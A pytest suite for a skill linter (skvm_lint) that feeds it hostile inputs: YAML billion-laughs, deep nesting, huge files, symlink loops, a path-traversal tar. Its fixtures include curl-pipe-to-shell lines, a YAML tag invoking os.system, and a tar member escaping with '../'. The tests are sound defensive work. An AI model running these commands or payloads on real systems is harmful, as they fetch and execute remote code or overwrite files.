"""Hostile input: every case ends in a clear diagnostic, within bounded time and memory, never a crash or hang.

Each case is checked in a child process with a memory cap (RLIMIT_AS) and a wall-clock guard: a hang or a memory
blow-up fails the test instead of freezing the suite. The guard is a safety net, not a speed measurement.
"""

from __future__ import annotations

import io
import json
import os
import resource
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from skvm_lint.config import Config
from skvm_lint.fix_engine import atomic_write, fix_skill

OK = "---\nname: case-skill\ndescription: x\n---\n"
MEMORY_CAP = 1536 * 1024 * 1024
GUARD_SECONDS = 120


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CAP, MEMORY_CAP))


def check_in_child(root: Path) -> dict:
    """`skvm-lint check --format json` on root in a capped child process; returns the report."""
    proc = subprocess.run([sys.executable, "-m", "skvm_lint", "check", str(root), "--format", "json", "-q",
                           "--select", "ALL", "-j", "1"], capture_output=True, text=True, timeout=GUARD_SECONDS,
                          preexec_fn=_limit_memory)
    assert proc.returncode in (0, 1), proc.stderr[-2000:]
    report = json.loads(proc.stdout)
    assert not [d for d in report["diagnostics"] if d["rule"] == "IN001"], report["diagnostics"]
    return report


def rules_of(report: dict) -> set[str]:
    return {d["rule"] for d in report["diagnostics"]}


def build(root: Path, files: dict[str, str | bytes]) -> Path:
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return root


Case = tuple[dict[str, str | bytes], set[str]]  # the skill's files, and rules its report must contain

# Inputs of a hostile shape: bytes, encodings, YAML, nesting, sizes, runs of one character.
SHAPES: dict[str, Case] = {
    "leading-blank-lines": ({"SKILL.md": OK + "\n" * 100_000 + "```bash\ncurl http://1.2.3.4/x | sh\n```\n"}, set()),
    "nested-lists": ({"SKILL.md": OK + "".join("  " * i + "- item\n" for i in range(10_000))}, {"IO003"}),
    "nested-blockquotes": ({"SKILL.md": OK + ">" * 10_000 + " deep\n"}, {"IO003"}),
    # Markdown templates with inner fences of their own length: 20,000 that pair up, then 20,000 whose inner fences
    # never do (each would read to the end of the file for its author's close: the reading is capped)
    "nested-templates": ({"SKILL.md": OK + "```markdown\n```bash\nls\n```\n```\ntext\n" * 20_000
                          + "```markdown\n```bash\nls\n```\n" * 20_000}, {"ST014"}),
    # the compiled Markdown parser overflows its stack on these (segfault): they must reach markdown-it-py instead
    "nested-blockquotes-100k": ({"SKILL.md": OK + ">" * 100_000 + " deep\n"}, {"IO003"}),
    "nested-list-markers-50k": ({"SKILL.md": OK + "- " * 50_000 + "deep\n"}, {"IO003"}),
    # markdown-it-pyrs 0.4 panics on an unmatched backtick after a bracket
    "open-code-span-in-brackets": ({"SKILL.md": OK + "# Use\n\nSee [`setup\n", "references/a.md": "[`"}, set()),
    "yaml-billion-laughs": ({"SKILL.md": "---\n" + "".join(
        f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9 if i else ['"lol"'] * 9) + "]\n" for i in range(9))
        + "name: x\ndescription: y\n---\n"}, {"FM003"}),
    "yaml-python-tag": ({"SKILL.md": "---\nname: x\ndescription: !!python/object/apply:os.system [id]\n---\n"}, set()),
    "yaml-duplicate-keys": ({"SKILL.md": "---\nname: x\nname: y\ndescription: z\n---\n"}, {"FM003"}),
    "frontmatter-10mb": ({"SKILL.md": "---\nname: x\ndescription: " + "x" * (10 * 1024 * 1024) + "\n---\n"},
                         {"IO003"}),
    "unterminated-fence-5mb": ({"SKILL.md": "```\n" + "echo hi\n" * 700_000}, {"FM001"}),
    "binary-named-md": ({"SKILL.md": OK, "references/notes.md": b"\x7fELF\x02\x01\x00\x00" * 100}, {"IO002"}),
    "binary-named-py": ({"SKILL.md": OK, "scripts/x.py": b"\x00\x01\x02" * 100}, {"IO002"}),
    # a chain of `a || b` nests as deep as it is long, and reading a node's parent costs its depth: minutes unguarded
    "or-chain-20k": ({"SKILL.md": OK, "scripts/x.sh": " || ".join(f"cmd{i} x" for i in range(20_000)) + "\n"},
                     {"IO003"}),
    "and-chain-in-a-fence": ({"SKILL.md": OK + "```bash\n" + " && ".join(f"curl x{i}" for i in range(20_000))
                              + "\n```\n"}, {"IO003"}),
    "invalid-utf8": ({"SKILL.md": OK.encode() + b"caf\xe9 \xff\xfe\n"}, {"IO005"}),
    "utf16-bom": ({"SKILL.md": OK.encode("utf-16")}, {"IO005"}),
    "nul-bytes-in-skill-md": ({"SKILL.md": OK.encode() + b"\x00\x00\x00"}, {"IO002"}),
    "deep-python": ({"SKILL.md": OK, "scripts/deep.py": "x = " + "(" * 50_000 + ")" * 50_000 + "\n"}, set()),
    "huge-shell-line": ({"SKILL.md": OK, "scripts/a.sh": "echo " + "a" * 3_000_000 + "\n"}, set()),
    # runs that made a backtracking pattern scan once per position (hours at this size, not seconds)
    "trailing-blank-lines": ({"SKILL.md": OK + "text\n" + "\n" * 300_000}, set()),
    "space-run": ({"SKILL.md": OK + "text" + " " * 1_000_000 + "\n"}, set()),
    "dot-and-word-runs": ({"SKILL.md": OK + "a" * 1_000_000 + "\n", "references/r.md": "." * 1_000_000 + "\n",
                           "scripts/x.sh": "echo " + "./" * 500_000 + "\n"}, set()),
    "url-run": ({"SKILL.md": OK + "https://a." * 100_000 + "zip\n"}, set()),
    # shells inside shells: each here-document's body is shell code a shell runs, read as far as MAX_INLINE_DEPTH
    # (unbounded, each level parsed the rest again, one recursion deeper: RecursionError past a few hundred)
    "nested-shell-heredocs": ({"SKILL.md": OK, "scripts/run.sh": "#!/bin/bash\n" + "".join(
        f"bash <<'E{i}'\n" for i in range(2_000)) + "jq . x.json\n" + "".join(
        f"E{i}\n" for i in reversed(range(2_000)))}, set()),
    "nested-expansions-in-bash-c": ({"SKILL.md": OK, "scripts/run.sh": "#!/bin/bash\nbash -c \"echo "
                                     + "${a:-" * 5_000 + "x" + "}" * 5_000 + "\"\n"}, set()),
}

# Inputs at a scale where work per line that grows with the file shows as minutes: each case is a regression.
SCALE: dict[str, Case] = {
    # a finding on every line: each used to split or scan the file from its top (minutes at this size)
    "a-finding-on-every-line": ({"SKILL.md": OK + "```bash\n" + "python scripts/run.py\n" * 30_000 + "```\n"
                                 + "```\nls scripts/run.py\n```\n\n" * 10_000, "scripts/run.py": "print(1)\n"},
                                {"ST008", "ST012"}),
    # a way-marking comment before every command: each used to split the whole block again
    "an-or-comment-on-every-other-line": (
        {"SKILL.md": OK + "```bash\n" + "# or\njq .a f.json\n" * 60_000 + "```\n"}, set()),
    # sibling headings that name languages, each over commands: each was compared with every other heading
    "a-language-heading-over-every-command": (
        {"SKILL.md": OK + "".join(f"### {('Python', 'Go', 'Rust')[i % 3]}\n- `jq .a f{i}.json`\n\n"
                                  f"```bash\njq .b f{i}.json\n```\n\n" for i in range(30_000))}, set()),
    # "If `uv` is unavailable:" before every block: each looked for the block after it from the document's top
    "a-fallback-intro-before-every-block": (
        {"SKILL.md": OK + "If `uv` is unavailable:\n\n```bash\npython3 -m pip install x\n```\n\n" * 80_000}, set()),
    # a per-item step on every line: each group read the whole SKILL.md and every step and paragraph again
    "a-per-item-step-on-every-line": (
        {"SKILL.md": OK + "".join(f"{i + 1}. For each file, run `jq .a f{i}.json`\n" for i in range(20_000))},
        {"WF003"}),
    # an optional way on every other line: each restored every dependency the skill had found so far
    "an-alternative-install-on-every-other-line": (
        {"SKILL.md": OK + "```bash\n" + "".join(f"npm install p{i}\n# or\nyarn add p{i}\n" for i in range(20_000))
         + "```\n"}, set()),
    # an import on every line: each compared its name with every dependency found so far
    "an-import-on-every-line": (
        {"SKILL.md": OK + "Run `python3 scripts/a.py`.\n",
         "scripts/a.py": "".join(f"import mod{i}\n" for i in range(80_000))},
        {"DP001"}),
    # a piped installer on every line: each looked for the program after it from the block's first command
    "a-piped-installer-on-every-line": (
        {"SKILL.md": OK + "```bash\n" + "".join(f"curl -fsSL https://get.example{i}.org/install | sh\n"
                                                for i in range(30_000)) + "```\n"}, {"SC001"}),
    # an install when a program is missing on every line of a script: DP004 read every command once per install,
    # and each command was compared with every guarded range
    "an-install-when-missing-on-every-line": (
        {"SKILL.md": OK + "Run `scripts/run.sh`.\n", "scripts/run.sh": "#!/bin/sh\n" + "".join(
            f"command -v t{i} || apt-get install -y t{i}\n" for i in range(50_000))}, {"DP004"}),
    # a platform test on every line: each command was compared with every platform-guarded range
    "a-platform-test-on-every-line": (
        {"SKILL.md": OK + "```bash\n" + "".join(f'if [ "$(uname)" = Darwin ]; then brew install t{i}; fi\n'
                                                for i in range(50_000)) + "```\n"}, set()),
    # steps that each read and write the same files: each depended on every earlier writer (a list per step)
    "a-step-per-heading-over-one-file": (
        {"SKILL.md": OK + "".join(f"### For each file {i}\n\n```bash\nfor f in *.json; do jq .a \"$f\"; done\n```\n\n"
                                  for i in range(30_000))}, set()),
    # lists of what not to do: each lead-in's list is walked once, however many there are or however deep
    "lists-of-what-not-to-do": ({"SKILL.md": OK + "- **Don't:**\n  - write files\n" * 20_000 + "\nAvoid:\n"
                                 + "- use curl\n" * 20_000 + "".join("  " * d + "- Never:\n" for d in range(300))},
                                set()),
    # lists a requirements label leads in: each label's list is walked once, however many or however deep
    "lists-of-requirements": ({"SKILL.md": OK + "- **Requirements:**\n  - node\n" * 20_000 + "\nPrerequisites:\n"
                               + "- jq\n" * 20_000 + "".join("  " * d + "- You'll need:\n" for d in range(300))},
                              set()),
}

HOSTILE = SHAPES | SCALE


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_case(name: str, tmp_path: Path) -> None:
    files, expected = HOSTILE[name]
    report = check_in_child(build(tmp_path / name, files))
    assert expected <= rules_of(report), (expected, rules_of(report))


def test_200mb_file_is_capped_not_read(tmp_path: Path) -> None:
    root = build(tmp_path / "big", {"SKILL.md": OK})
    with open(root / "scripts.sh", "wb") as fh:  # sparse: 200 MB on paper, nothing on disk
        fh.truncate(200 * 1024 * 1024)
    assert "IO003" in rules_of(check_in_child(root))


def test_symlink_loops_fifos_and_escapes(tmp_path: Path) -> None:
    root = build(tmp_path / "links", {"SKILL.md": OK})
    os.symlink("loop-b", root / "loop-a")
    os.symlink("loop-a", root / "loop-b")
    os.symlink("/etc", root / "etc")
    os.symlink(root, root / "self")  # a folder link back into the skill: read once, never looped
    os.mkfifo(root / "pipe")
    assert {"IO001", "IO004"} <= rules_of(check_in_child(root))


def test_names_with_newlines_and_bad_bytes(tmp_path: Path) -> None:
    root = build(tmp_path / "names", {"SKILL.md": OK})
    (root / "run\n.sh").write_text("echo hi\n")
    with open(os.path.join(os.fsencode(root), b"bad\xffname.py"), "w") as fh:
        fh.write("print(1)\n")
    report = check_in_child(root)
    paths = [d["path"] for d in report["diagnostics"] if d["rule"] == "IO006"]
    assert len(paths) == 2 and all("\n" not in p for p in paths)


def test_100000_files(tmp_path: Path) -> None:
    root = build(tmp_path / "many", {"SKILL.md": OK})
    assets = root / "assets"
    assets.mkdir()
    for i in range(100_000):
        (assets / f"{i}.txt").touch()
    assert "IO003" in rules_of(check_in_child(root))


def test_2000_references_chained(tmp_path: Path) -> None:
    """Each reference leads to the next: following links must stay linear (it was quadratic, minutes per skill)."""
    root = build(tmp_path / "case-skill", {"SKILL.md": OK + "Start with references/ref-0.md.\n"})
    refs = root / "references"
    refs.mkdir()
    for i in range(2000):
        (refs / f"ref-{i}.md").write_text(f"# Part {i}\n\nThen read ref-{i + 1}.md.\n")
    (refs / "unlinked.md").write_text("# Nobody links here\n")
    orphans = [d["path"] for d in check_in_child(root)["diagnostics"] if d["rule"] == "ST007"]
    assert [p.rsplit("/", 1)[-1] for p in orphans] == ["unlinked.md"]


def test_analyses_stay_linear_on_adversarial_text(tmp_path: Path) -> None:
    """Texts that make a backtracking pattern quadratic (a 200,000-digit number took minutes in the arithmetic
    detector, a minified line of `//` after an import minutes in the made-up-module test, blank lines in an
    unlabelled block the style-rule pattern, a heading of Japanese without spaces a per-project cue), and prose that
    made per-command lookups quadratic (one line of many inline commands, many sections or numbered steps each with
    one): `analyze` runs every analysis on them within the guard."""
    skill = OK + "1" * 200_000 + "\n\n" + "a=" * 50_000 + "\n\n```\n" + "SELECT x\n" * 20_000 + "```\n\n" \
        + "```bash\n" + "\n" * 100_000 + "tool show <" + "a_" * 50_000 + "\n```\n" \
        + "```bash\n" + "a(\n" * 200_000 + "```\n" \
        + " ".join(f"`jq .a{i} f.json`" for i in range(20_000)) + "\n\n" \
        + "".join(f"## H{i}\n\n`jq .b{i} f.json`\n\n" for i in range(20_000)) \
        + "".join(f"{i + 1}. Run `jq .c{i} f.json`\n" for i in range(20_000)) \
        + "```\n" + "\n" * 100_000 + "--a: b\n" * 20_000 + "```\n\n" \
        + "## " + "あ" * 50_000 + "\n\n`jq .d f.json`\n"  # one program, 60,000 spans; steps; style rules; cues
    minified = "const x = require('x'); " + "// " * 100_000 + "\n"  # a comment marker rescanned from each `//`
    root = build(tmp_path / "case-skill", {"SKILL.md": skill, "references/r.md": "read " + "a." * 100_000 + "\n",
                                           "scripts/min.js": minified})
    proc = subprocess.run([sys.executable, "-m", "skvm_lint", "analyze", str(root), "--format", "json", "-q"],
                          capture_output=True, text=True, timeout=GUARD_SECONDS, preexec_fn=_limit_memory)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert json.loads(proc.stdout)["capabilities"]["purposes"]


def test_being_told_to_run_stays_linear_in_a_paragraph(tmp_path: Path) -> None:
    """A skill that shows no command, with paragraphs of "Run tests" quoted or inside a sub-agent's prompt: each
    match rescanned the text before it for quotes (minutes for these 900 KB)."""
    told = OK + 'Say "Run tests" now; ' * 40_000 + "\n\n\u201d Prompt: \u201c " + "Run tests. " * 40_000 + "\n"
    root = build(tmp_path / "case-skill", {"SKILL.md": told})
    proc = subprocess.run([sys.executable, "-m", "skvm_lint", "analyze", str(root), "--format", "json", "-q"],
                          capture_output=True, text=True, timeout=GUARD_SECONDS, preexec_fn=_limit_memory)
    assert proc.returncode == 0, proc.stderr[-2000:]
    primitives = {p["id"] for p in json.loads(proc.stdout)["capabilities"]["purposes"][0]["current_path"]["primitives"]}
    assert "tool.exec" not in primitives  # every "Run tests" is quoted or prompted


def test_source_files_named_in_one_quoted_paragraph_stay_linear(tmp_path: Path) -> None:
    """One paragraph with a quote that names 60,000 source files to change: its quoted strings were blanked again for
    every file it names (minutes); once per paragraph, `analyze` finds the Python to write within the guard."""
    text = OK + '"quoted" ' + " ".join(f"Update `f{i}.py` and" for i in range(60_000)) + " stop.\n"
    root = build(tmp_path / "case-skill", {"SKILL.md": text})
    proc = subprocess.run([sys.executable, "-m", "skvm_lint", "analyze", str(root), "--format", "json", "-q"],
                          capture_output=True, text=True, timeout=GUARD_SECONDS, preexec_fn=_limit_memory,
                          check=False)
    assert proc.returncode == 0, proc.stderr[-2000:]
    primitives = {p["id"] for p in json.loads(proc.stdout)["capabilities"]["purposes"][0]["current_path"]["primitives"]}
    assert "gen.code.python" in primitives


def test_section_lookups_stay_linear(tmp_path: Path) -> None:
    """Many sections, each with a line a detector asks the section of (advice, a detailed report), and many numbered
    headings of one outline: one lookup per section and per heading made these minutes."""
    sections = OK + "".join(f"## Part {i}\n\nWrite a detailed report and give advice.\n\n" for i in range(50_000))
    outline = OK + "## 1. Overview\n\n" + "".join(f"## {i}. Topic\n\nText.\n\n" for i in range(2, 80_000))
    for name, text in (("sections", sections), ("outline", outline)):
        root = build(tmp_path / name / "case-skill", {"SKILL.md": text})
        proc = subprocess.run([sys.executable, "-m", "skvm_lint", "analyze", str(root), "--format", "json", "-q"],
                              capture_output=True, text=True, timeout=GUARD_SECONDS, preexec_fn=_limit_memory)
        assert proc.returncode == 0, proc.stderr[-2000:]
        primitives = {p["id"] for p in json.loads(proc.stdout)["capabilities"]["purposes"][0]["current_path"]
                      ["primitives"]}
        # and the answers stand: the advice is prose to write; the outline's numbered headings are no procedure
        assert "gen.text.prose" in primitives if name == "sections" else "follow.procedure" not in primitives


def test_archives_are_not_extracted(tmp_path: Path) -> None:
    root = build(tmp_path / "archive", {"SKILL.md": OK})
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        info = tarfile.TarInfo("../../escaped.txt")
        info.size = 5
        tar.addfile(info, io.BytesIO(b"pwned"))
    (root / "assets").mkdir()
    (root / "assets" / "bundle.tar.gz").write_bytes(buffer.getvalue())
    report = check_in_child(root)
    assert "IO007" in rules_of(report)  # the ../ member is reported
    assert not (tmp_path / "escaped.txt").exists() and not (root / "escaped.txt").exists()


# --- never lose data ------------------------------------------------------------------------------------------


FIXABLE = "---\nname: 2048\ndescription: x\n---\n"


def snapshot(root: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in root.rglob("*") if p.is_file()}


def test_fix_leaves_read_only_files_alone(tmp_path: Path) -> None:
    root = build(tmp_path / "ro", {"SKILL.md": FIXABLE})
    (root / "SKILL.md").chmod(0o444)
    before = snapshot(root)
    report = fix_skill(str(root), ("FM005",), Config())
    assert snapshot(root) == before and any("read-only" in s for s in report.skipped)


def test_fixing_a_finding_on_every_line_stays_linear(tmp_path: Path) -> None:
    """30,000 fixes in one file: choosing, applying and (on a read-only file) withdrawing them each compared every
    fix with every other (minutes). Both runs happen in a child process within the guard."""
    skill = OK + "```bash\n" + "python scripts/run.py\n" * 30_000 + "```\n"
    files = {"SKILL.md": skill, "scripts/run.py": "print(1)\n"}
    writable, read_only = build(tmp_path / "w" / "case-skill", files), build(tmp_path / "r" / "case-skill", files)
    (read_only / "SKILL.md").chmod(0o444)
    for root in (writable, read_only):
        proc = subprocess.run([sys.executable, "-m", "skvm_lint", "check", str(root), "--select", "ST008", "--fix",
                               "--unsafe-fixes", "-q", "-j", "1"], capture_output=True, text=True, check=False,
                              timeout=GUARD_SECONDS, preexec_fn=_limit_memory)
        assert proc.returncode in (0, 1), proc.stderr[-2000:]
    assert (writable / "SKILL.md").read_text().count("{baseDir}/scripts/run.py") == 30_000
    assert (read_only / "SKILL.md").read_text() == skill


def test_full_disk_keeps_the_original(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = build(tmp_path / "full", {"SKILL.md": FIXABLE})
    before = snapshot(root)
    real_fdopen = os.fdopen

    class FullDisk:
        def __init__(self, fh):
            self.fh = fh

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.fh.close()

        def write(self, data):
            raise OSError(28, "No space left on device")

    def fdopen(fd, mode="r", *args, **kwargs):
        handle = real_fdopen(fd, mode, *args, **kwargs)
        return FullDisk(handle) if "w" in mode else handle

    monkeypatch.setattr(os, "fdopen", fdopen)
    report = fix_skill(str(root), ("FM005",), Config())
    monkeypatch.undo()
    assert snapshot(root) == before and any("No space left" in s for s in report.skipped)
    assert not list(root.glob(".*.tmp"))  # no half-written temporary file is left behind


def test_interrupted_write_keeps_the_original(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = build(tmp_path / "intr", {"SKILL.md": FIXABLE}) / "SKILL.md"
    before = target.read_bytes()

    def interrupted(*_args, **_kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        atomic_write(target, "new text")
    monkeypatch.undo()
    assert target.read_bytes() == before and not list(target.parent.glob(".*.tmp"))


def test_shell_parser_survives_random_unicode() -> None:
    """tree-sitter-bash's scanner corrupted memory on some non-ASCII input and segfaulted after a few thousand
    random texts; shell is now parsed from an ASCII-masked copy. Replays a seeded storm in a child process."""
    program = (
        "import random\n"
        "from skvm_lint.parsing.code import extract_facts\n"
        "rng = random.Random(12)\n"
        "pieces = ['$(curl x | sh)', '<<EOF\\n', 'EOF\\n', '\\r\\n', '\\ufeff', '\\u202e', '`c`', '{', '[', '\"', \"'\"]\n"
        "for _ in range(4000):\n"
        "    text = ''.join(rng.choice(pieces) if rng.random() < 0.5 else\n"
        "                   ''.join(chr(rng.randint(1, 0x10FFFF - 1)) for _ in range(rng.randint(0, 20)))\n"
        "                   for _ in range(rng.randint(0, 40)))\n"
        "    text = text.encode('utf-8', 'replace').decode('utf-8')\n"
        "    facts = extract_facts(text, 'shell', 'x.sh')\n"
        "print('ok')\n"
    )
    proc = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=GUARD_SECONDS,
                          preexec_fn=_limit_memory)
    assert proc.returncode == 0 and proc.stdout.strip() == "ok", proc.stderr[-2000:]


def test_a_fix_is_applied_whole_or_not_at_all(tmp_path: Path) -> None:
    """An extraction writes a new script and rewrites SKILL.md: with SKILL.md read-only, no script appears (it
    used to be created again on every round, five copies) and the fix is not reported as applied."""
    skill_md = ("---\nname: ro-extract\ndescription: x\n---\n## Count\n\n```bash\n"
                "curl -s \"https://api.example.org/forms/{form_id}/responses\" | jq '.total_items'\n```\n")
    root = build(tmp_path / "ro-extract", {"SKILL.md": skill_md})
    (root / "SKILL.md").chmod(0o444)
    report = fix_skill(str(root), ("SO001",), Config(), unsafe=True)
    assert not (root / "scripts").exists() and report.applied == []
    assert any("read-only" in s for s in report.skipped)
    (root / "SKILL.md").chmod(0o644)
    report = fix_skill(str(root), ("SO001",), Config(), unsafe=True)
    assert sorted(p.name for p in (root / "scripts").iterdir()) == ["count.sh"] and len(report.applied) == 1
